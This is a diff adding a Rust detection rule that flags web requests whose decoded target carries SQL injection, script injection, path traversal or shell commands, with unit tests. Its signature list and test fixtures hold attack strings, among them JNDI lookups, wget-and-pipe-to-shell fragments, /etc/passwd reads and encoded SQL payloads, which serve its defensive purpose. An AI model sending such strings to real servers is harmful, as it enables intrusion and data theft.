@@ -1,0 +1,231 @@
+//! A request that carries code: SQL, script, shell, or a path out of the web root.
+
+use model::event::Marks;
+use model::{ControlId, EntityKind, RuleId, SecurityEvent, Severity, Source, Span};
+use serde::{Deserialize, Serialize};
+
+use crate::keyed::Key;
+use crate::open::Opening;
+use crate::rule::{Built, Context, Definition, Info, Rule, defaults, params};
+
+pub(super) const RULE: Definition = Definition {
+    info: &Info {
+        id: RuleId::builtin("injection_attempt"),
+        name: "Injection attempt",
+        description: "A request whose target, decoded, carries SQL, script, shell commands or a path out of the web root.",
+        severity: Severity::High,
+        controls: &[ControlId::known("3.14.6"), ControlId::known("3.13.1")],
+        attack: &["T1190", "T1059"],
+        interest: Marks::WEB,
+        feeds: &[Source::Nginx],
+    },
+    defaults: defaults::<Params>,
+    build: |value, _| {
+        let _: Params = params(value)?;
+        Ok(Built { rule: Box::new(InjectionAttempt), cooldown: Span::hours(1), memory: Span::ZERO })
+    },
+};
+
+#[derive(Default, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct Params {}
+
+struct InjectionAttempt;
+
+/// A target longer than this is looked at up to here.
+const LOOKED_AT: usize = 8192;
+/// Attackers encode what they encoded.
+const LAYERS: usize = 3;
+
+/// What gives each kind away, in a target that is decoded, in small letters, its blanks single and SQL's comments gone.
+const KINDS: [(&str, &[&str]); 4] = [
+    (
+        "SQL",
+        &[
+            "union select",
+            "union all select",
+            "' or '",
+            "' or 1=1",
+            "\" or 1=1",
+            "' and '1'='",
+            "or 1=1--",
+            "sleep(5",
+            "pg_sleep(",
+            "benchmark(",
+            "waitfor delay",
+            "information_schema",
+            "xp_cmdshell",
+            "extractvalue(",
+            "updatexml(",
+            "; drop table",
+            "';--",
+            "' and 1=",
+            "load_file(",
+            "into outfile",
+        ],
+    ),
+    (
+        "script",
+        &["<script", "javascript:alert", "onerror=", "onload=alert", "<svg/on", "<img src=x", "document.cookie"],
+    ),
+    (
+        "path out of the web root",
+        &[
+            "../../",
+            "..\\..\\",
+            "/..%c0%af",
+            "/etc/passwd",
+            "/etc/shadow",
+            "/proc/self/",
+            "win.ini",
+            "boot.ini",
+            "php://input",
+            "php://filter",
+            "file:///",
+            "expect://",
+            "/.%2e/",
+            "/%2e%2e/",
+        ],
+    ),
+    (
+        "shell command",
+        &[
+            "${jndi:",
+            "() { :",
+            ";cat ",
+            "|cat ",
+            "; cat ",
+            "| cat ",
+            ";id;",
+            "$(cat",
+            "$(id)",
+            "`id`",
+            "; wget ",
+            ";wget ",
+            "&& wget ",
+            ";curl ",
+            "| sh",
+            "/bin/sh",
+            "/bin/bash",
+            "cmd.exe",
+            "powershell -",
+            "<?php",
+            "allow_url_include",
+            "eval(base64",
+        ],
+    ),
+];
+
+/// One layer of percent-encoding less; a plus is a blank.
+fn decoded(text: &[u8]) -> Vec<u8> {
+    let hex = |c: Option<&u8>| c.and_then(|c| char::from(*c).to_digit(16)).map(|d| d as u8);
+    let (mut out, mut at) = (Vec::with_capacity(text.len()), 0);
+    while let Some(&c) = text.get(at) {
+        let (byte, taken) = match (c, hex(text.get(at + 1)), hex(text.get(at + 2))) {
+            (b'%', Some(high), Some(low)) => (high << 4 | low, 3),
+            (b'+', ..) => (b' ', 1),
+            // Web servers write bytes that would break their log so.
+            (b'\\', ..) if text.get(at + 1).is_some_and(|x| x.eq_ignore_ascii_case(&b'x')) => {
+                match (hex(text.get(at + 2)), hex(text.get(at + 3))) {
+                    (Some(high), Some(low)) => (high << 4 | low, 4),
+                    _ => (c, 1),
+                }
+            }
+            _ => (c, 1),
+        };
+        out.push(byte);
+        at += taken;
+    }
+    out
+}
+
+/// In small letters, any run of blanks as one, and `/**/`, which SQL takes for one, as one.
+fn plain(text: &[u8]) -> String {
+    let text = String::from_utf8_lossy(text).to_ascii_lowercase().replace("/**/", " ");
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        let c = if c.is_ascii_whitespace() || c == '\0' { ' ' } else { c };
+        if c != ' ' || !out.ends_with(' ') {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Which kind of code a target carries.
+pub(super) fn kind_of(target: &str) -> Option<&'static str> {
+    let mut layer = target.as_bytes()[..target.len().min(LOOKED_AT)].to_vec();
+    for _ in 0..=LAYERS {
+        let text = plain(&layer);
+        if let Some((kind, _)) = KINDS.iter().find(|(_, marks)| marks.iter().any(|mark| text.contains(mark))) {
+            return Some(kind);
+        }
+        let next = decoded(&layer);
+        if next == layer {
+            break;
+        }
+        layer = next;
+    }
+    None
+}
+
+impl Rule for InjectionAttempt {
+    fn observe(&mut self, event: &SecurityEvent<'_>, cx: &mut Context<'_>) {
+        let (Some(ip), Some(target)) = (event.ip_address, event.resource_id.as_deref()) else { return };
+        // Most targets are letters, digits and slashes, which carry nothing.
+        let ordinary = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'-' | b'_' | b'?' | b'=' | b'&');
+        let bytes = target.as_bytes();
+        let dots = bytes.windows(2).any(|pair| pair == b"..");
+        if bytes.iter().all(|c| ordinary(c) || *c == b'.') && !dots && !target.contains("win.ini") {
+            return;
+        }
+        let Some(kind) = kind_of(target) else { return };
+        cx.fire(Key::ip(event.source, ip), event, || {
+            let answered = event.details.number("status").unwrap_or(0);
+            let title = format!("Injection attempt: {kind} in a request from {ip}, answered with {answered}");
+            let description = format!(
+                "A request from {ip} carries a {kind}. {} Block the address if it is not one of yours.",
+                if answered < 300 {
+                    "The server answered that all is well: find out what it did."
+                } else {
+                    "The server did not serve it."
+                }
+            );
+            Opening::new(EntityKind::Ip, ip, title, description)
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn disguises_are_seen_through() {
+        for (target, kind) in [
+            ("/a?id=1%20UNION%20SELECT%201", Some("SQL")),
+            ("/a?id=1/**/UnIoN/**/SeLeCt+1", Some("SQL")),
+            ("/a?id=1%2527%2520or%2520%25271%2527=%25271", Some("SQL")),
+            ("/a?q=%3Cscript%3Ealert(1)", Some("script")),
+            ("/a/..%2f..%2fetc/hosts", Some("path out of the web root")),
+            ("/a?f=\\x2e\\x2e/\\x2e\\x2e/x", Some("path out of the web root")),
+            ("/?x=${jndi:ldap://e/a}", Some("shell command")),
+            ("/cgi?;wget+http://e/x", Some("shell command")),
+            ("/select/union?order=by", None),
+            ("/search?q=rock+%26+roll+or+jazz", None),
+            ("/img/a..b.png", None),
+            ("/union-station/select-hotel", None),
+        ] {
+            assert_eq!(kind_of(target), kind, "{target}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn never_panics(target in "\\PC{0,200}") {
+            let _ = kind_of(&target);
+        }
+    }
+}
